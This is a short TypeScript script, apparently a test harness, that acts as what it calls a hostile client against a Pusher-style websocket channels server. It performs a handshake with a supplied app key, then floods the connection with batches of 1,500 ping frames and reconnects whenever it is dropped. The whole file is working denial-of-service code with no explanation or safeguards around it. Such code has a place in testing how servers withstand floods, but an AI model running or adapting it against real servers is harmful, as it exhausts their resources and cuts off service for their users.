import { createServer } from "node:http";
import { connect } from "node:net";

/** A hostile client: one socket at a time to TARGET's channels server that sends pings as fast as it can, and comes back when it is closed. */

const { TARGET = "", KEY = "", PORT } = process.env;
const { hostname, port } = new URL(TARGET);

/** As many masked frames as one write takes; the mask is zero. */
const FLOOD = Buffer.concat(Array<Buffer>(1500).fill(frame('{"event":"pusher:ping","data":{}}')));

function frame(text: string): Buffer {
  return Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0]), Buffer.from(text)]);
}

function flood(): void {
  const socket = connect(Number(port), hostname);
  socket.write(
    `GET /app/${KEY}?protocol=7 HTTP/1.1\r\nHost: ${hostname}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${"A".repeat(22)}==\r\n\r\n`,
  );
  const more = () => {
    while (socket.writable && socket.write(FLOOD));
  };
  socket.once("data", () => {
    socket.on("drain", more);
    more();
  });
  socket.resume();
  socket.on("error", () => {});
  socket.on("close", () => setImmediate(flood));
}

flood();
// Says that it has begun.
createServer().listen(Number(PORT), "127.0.0.1");
